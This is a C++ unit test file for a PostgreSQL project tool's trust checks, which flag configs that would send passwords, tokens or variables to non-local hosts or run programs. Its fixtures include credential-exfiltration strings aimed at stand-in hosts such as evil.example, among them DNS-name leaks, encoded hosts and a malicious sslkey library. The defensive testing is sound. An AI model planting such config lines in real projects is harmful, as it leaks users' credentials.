#include "config/profile/host_kind.hpp"
#include "config/trust/project_program.hpp"
#include "config/trust/trust_request.hpp"
#include "support/temp_folder.hpp"
#include "unit/config/fixture.hpp"

#include <filesystem>
#include <fstream>

#include <algorithm>
#include <set>

using namespace crudctl;
using namespace crudctl::config;
using namespace crudctl::config::test;

namespace {

/// What the profile `local` of a file with these lines wants, each line as "label text".
std::vector<std::string> wants(const ProjectFolder& project, const std::string& lines,
                               test::Variables variables = {})
{
    std::vector<std::string> texts;
    const Settings settings = project.load_text("[project]\nname = 'd'\n[profiles.local]\n" + lines,
                                                std::move(variables));
    for (const TrustRequest& request : settings.trust_requests("local")) {
        for (const std::string& line : request.lines) {
            texts.push_back(request.label + " " + line);
        }
    }
    return texts;
}

std::vector<std::string> sends(const std::string& lines, test::Variables variables = {})
{
    const ProjectFolder project;
    return wants(project, lines, std::move(variables));
}

const test::Variables secrets = {{"PW", canary}, {"PGPASSWORD", canary}, {"USER_NAME", "app"}};

using Texts = std::vector<std::string>;

} // namespace

TEST_CASE("a host that no stranger can be is near", "[config]")
{
    for (const char* host : {"", "/run/postgresql", "@abstract", "localhost", "LOCALHOST",
                             "app.localhost", "127.0.0.1", "127.9.9.9", "::1", "db", "my-db_1"}) {
        INFO(host);
        CHECK(is_near_host(host));
    }
    for (const char* host :
         {"db.example.com", "127.0.0.1.evil.com", "localhost.evil.com", "10.0.0.1", "192.168.1.2",
          "8.8.8.8", "134744072", "0x08080808", "0177.0.0.1", "2001:db8::1", "::ffff:8.8.8.8",
          "db.", "host.docker.internal",
          "b\xc3\xbc"
          "cher",
          "a b", "0.0.0.0"}) {
        INFO(host);
        CHECK_FALSE(is_near_host(host));
    }
}

TEST_CASE("a URL of the user's that the file leads to another server is asked for", "[config]")
{
    const test::Variables mine = {
        {"MY_URL", "postgresql://u:" + std::string(canary) + "@db.corp/d"}};
    const std::string url = "url = '${MY_URL}'\n";
    CHECK(sends(url, mine).empty());
    CHECK(sends(url + "hostaddr = '8.8.8.8'\n", mine) ==
          Texts{"sends the value of MY_URL to 8.8.8.8"});
    CHECK(sends(url + "hostaddr = '127.0.0.1'\n", mine).empty());
    const test::Variables without_host = {
        {"MY_URL", "postgresql://u:" + std::string(canary) + "@/d"}};
    CHECK(sends(url + "host = 'evil.example'\n", without_host) ==
          Texts{"sends the value of MY_URL to evil.example"});
}

TEST_CASE("a variable beside a host that the file spells is asked for", "[config]")
{
    CHECK(sends("url = 'postgresql://u:${PW}@evil.example/d'\n", secrets) ==
          Texts{"sends the value of PW to evil.example"});
    CHECK(sends("url = 'postgresql://${USER_NAME}:${PW}@evil.example,good.example/d'\n", secrets)
              .size() == 4);
    CHECK(sends("host = 'evil.example'\npassword = '${PW}'\n", secrets) ==
          Texts{"sends the value of PW to evil.example"});
    CHECK(sends("host = 'evil.example'\noptions = '-c a.b=${USER_NAME}'\npassword = 'x'\n",
                secrets) == Texts{"sends the value of USER_NAME to evil.example"});
    // A part of the name is spelled, and the rest goes to its name server.
    CHECK(sends("host = '${USER_NAME}.evil.example'\npassword = 'x'\n", secrets) ==
          Texts{"sends the value of USER_NAME to ${USER_NAME}.evil.example"});
    CHECK(sends("host = '${NONE:-evil.example}'\npassword = '${PW}'\n", secrets) ==
          Texts{"sends the value of PW to evil.example"});
    CHECK(sends("url = 'postgresql://u:${PW}@localhost/d?hostaddr=8.8.8.8'\n", secrets) ==
          Texts{"sends the value of PW to 8.8.8.8"});
    CHECK(sends("url = 'postgresql://u:${PW}@ev%69l.example/d'\n", secrets) ==
          Texts{"sends the value of PW to evil.example"});
}

TEST_CASE("PGPASSWORD is asked for though no file names it", "[config]")
{
    CHECK(sends("url = 'postgresql://u@evil.example/d'\n", secrets) ==
          Texts{"sends the value of PGPASSWORD to evil.example"});
    CHECK(sends("url = 'postgresql://u:known@evil.example/d'\n", secrets).empty());
    CHECK(sends("url = 'postgresql://u@evil.example/d'\n").empty());
}

TEST_CASE("nothing is asked for where no stranger can get it", "[config]")
{
    const std::string lines = GENERATE(
        "url = '${URL}'\n", "url = '${URL:-}'\nown_server = true\n",
        "url = 'postgresql://postgres:password@db:5432/app'\n",
        "url = 'postgresql://u:${PW}@db:5432/app'\n",
        "url = 'postgresql://u:${PW}@localhost/app'\n",
        "url = 'postgresql://u:${PW}@127.0.0.1/app'\n", "url = 'postgresql://u:${PW}@[::1]/app'\n",
        "url = 'postgresql:///app?host=/run/postgresql&user=${PW}'\n",
        "host = '${HOST}'\npassword = '${PW}'\n", "host = 'db'\npassword = '${PW}'\n",
        "url = 'postgresql://u:${PW}@${HOST}/d'\n", "own_server = true\n",
        "url = 'postgresql://u:plain@db.example.com/app'\nsslrootcert = '${PW}'\n");
    INFO(lines);
    test::Variables variables = secrets;
    variables["URL"] = "postgresql://u@db.example.com/app";
    variables["HOST"] = "db.example.com";
    CHECK(sends(lines, variables).empty());
}

TEST_CASE("a request names the variable that is part of a host, and never shows its value",
          "[config]")
{
    const test::Variables mine = {{"PW", canary}};
    CHECK(sends("url = 'postgresql://u:x@${PW}.evil.example/d'\n", mine) ==
          Texts{"sends the value of PW to ${PW}.evil.example"});
    CHECK(sends("host = 'db.${PW}.example'\n", mine) ==
          Texts{"sends the value of PW to db.${PW}.example"});
}

TEST_CASE("a host of .env is spelled by the project for variables from elsewhere", "[config]")
{
    const ProjectFolder project;
    project.write(".env", "HOST=evil.example\nURL=postgresql://u@evil.example/d\nOWN=x\n");
    CHECK(wants(project, "host = '${HOST}'\npassword = '${PW}'\n", {{"PW", canary}}) ==
          Texts{"sends the value of PW to evil.example"});
    CHECK(wants(project, "url = '${URL}'\n", {{"PGPASSWORD", canary}}) ==
          Texts{"sends the value of PGPASSWORD to evil.example"});
    CHECK(wants(project, "host = '${HOST}'\npassword = '${OWN}'\n").empty());
    CHECK(wants(project, "url = '${URL}'\n").empty());
    CHECK(wants(project, "host = 'evil.example'\npassword = '${OWN}'\n") ==
          Texts{"sends the value of OWN to evil.example"});
}

TEST_CASE("a program is shown as it would run, with where its answer goes", "[config]")
{
    const ProjectFolder project;
    CHECK(wants(project,
                "url = 'postgresql://u@db.example.com/d'\n"
                "password_command = ['op', 'read', 'op://a b/${X}']\n",
                {{"X", "x"}}) ==
          Texts{"runs op read 'op://a b/${X}'", "runs its answer goes to db.example.com"});
    project.write(".env", "X=from dotenv\n");
    CHECK(wants(project, "url = '${URL}'\npassword_command = ['op', '${X}']\n",
                {{"URL", "postgresql://u@h/d"}}) ==
          Texts{"runs op 'from dotenv'", "runs gets X from .env",
                "runs its answer goes to the server in URL"});
}

TEST_CASE("the digest is of what is shown, and of nothing else", "[config]")
{
    const ProjectFolder project;
    const auto digest = [&](const std::string& lines, test::Variables variables = {}) {
        return digest_of(project
                             .load_text("[project]\nname = 'd'\n[profiles.local]\n" + lines,
                                        std::move(variables))
                             .trust_requests("local"));
    };
    project.write("pw.sh", "echo one\n", 0755);
    const std::string command = "password_command = ['./pw.sh']\n";
    const std::string here = "host = 'a.example'\n";
    const std::string first = digest(here + command);
    CHECK(first.size() == 64);
    CHECK(digest("# a line above\n\n" + here + "port = 5433\n" + command) == first);
    CHECK(digest("host = 'b.example'\n" + command) != first);
    CHECK(digest(here + "hostaddr = '8.8.8.8'\n" + command) != first);
    CHECK(digest(here + "password_command = ['./pw.sh', 'x']\n") != first);
    CHECK(digest(here + "password_command = ['./pw.sh ']\n") != first);
    project.write("pw.sh", "echo two\n", 0755);
    CHECK(digest(here + command) != first);
    project.write("pw.sh", "echo one\n", 0755);
    CHECK(digest(here + command) == first);

    const ProjectFolder clone; // lies elsewhere
    clone.write("pw.sh", "echo one\n", 0755);
    const Settings settings =
        clone.load_text("[project]\nname = 'd'\n[profiles.local]\n" + here + command);
    CHECK(digest_of(settings.trust_requests("local")) == first);
}

TEST_CASE("a secret that a command reads is not hashed", "[config]")
{
    const ProjectFolder project;
    project.write("password", canary);
    CHECK(wants(project, "host = 'db'\npassword_command = ['cat', 'password']\n") ==
          Texts{"runs cat password", "runs its answer goes to db"});
    project.write("pw.py", "print(1)");
    CHECK(wants(project, "host = 'db'\npassword_command = ['python3', 'pw.py']\n").size() == 3);
}

TEST_CASE("other ways for a file to have a program run are asked for", "[config]")
{
    CHECK(sends("host = 'h'\nsslkey = 'evil.so:x'\n").size() == 1);
    CHECK(sends("url = 'postgresql://u@h/d?sslkey=pkcs11:x'\n").size() == 1);
    CHECK(sends("host = 'h'\nsslkey = 'client.key'\n").empty());
    const ProjectFolder project;
    const auto server = [&](const std::string& lines, test::Variables variables = {}) {
        return project.load_text("[server]\n" + lines, std::move(variables))
            .server_trust_requests()
            .size();
    };
    CHECK(server("binaries = 'bin'\n") == 1);
    CHECK(server("binaries = '/opt/pg/bin'\n") == 1);
    CHECK(server("binaries = 'bin'\n", {{"CRUDCTL_PG_BIN", "/usr/lib/postgresql/15/bin"}}) == 0);
    CHECK(server("data_directory = 'data'\n") == 1);
    CHECK(server("data_directory = '/elsewhere'\n") == 0);
    CHECK(server("port = 6000\n") == 0);
}

TEST_CASE("the repository counts, where the project is a folder of it", "[config]")
{
    const tests::TempFolder repository;
    std::filesystem::create_directories(repository / ".git");
    std::filesystem::create_directories(repository / "app");
    std::filesystem::create_directories(repository / "bin");
    const auto program = repository / "bin/pw.sh";
    std::ofstream(program) << "#!/bin/sh\necho 1\n";
    std::filesystem::permissions(program, std::filesystem::perms::owner_all);
    const auto root = repository / "app";
    CHECK(repository_root(root) == std::filesystem::canonical(repository.path()));
    const auto before = project_program("../bin/pw.sh", root, false);
    REQUIRE(before.has_value());
    CHECK(before->starts_with("bin/pw.sh of this project, SHA-256 "));
    std::ofstream(program) << "#!/bin/sh\necho 2\n";
    CHECK(project_program("../bin/pw.sh", root, false) != before);
    CHECK_FALSE(project_program("/bin/sh", root, false).has_value());
}

TEST_CASE("a token of IAM goes nowhere but to its own endpoint unasked", "[config]")
{
    const std::string rds = "name.abc.ca-central-1.rds.amazonaws.com";
    const std::string head = "auth = 'rds-iam'\nuser = 'u'\nsslmode = 'require'\n";
    CHECK(sends(head + "host = '" + rds + "'\n").empty());
    CHECK(sends(head + "host = 'localhost'\n[profiles.local.aws]\nendpoint = '" + rds + ":5432'\n")
              .empty());
    CHECK(sends(head + "host = 'evil.example'\n[profiles.local.aws]\nendpoint = '" + rds +
                ":5432'\n") == Texts{"sends a token of IAM for " + rds + ":5432 to evil.example"});
    CHECK(sends(head + "host = '" + rds + "'\nhostaddr = '8.8.8.8'\n") ==
          Texts{"sends a token of IAM for " + rds + " to 8.8.8.8"});
}

TEST_CASE("the services that tell the address are sent no variable unasked", "[config]")
{
    const std::string head = "host = 'h'\n[profiles.local.aws]\n";
    CHECK(sends(head + "address_services = 'https://evil.example/${PW}'\n", secrets) ==
          Texts{"sends the value of PW to https://evil.example/${PW}"});
    CHECK(sends(head + "address_services = 'https://evil.example/'\n", secrets).empty());
    CHECK(sends(head + "address_services = '${PW}'\n", secrets).empty());
}
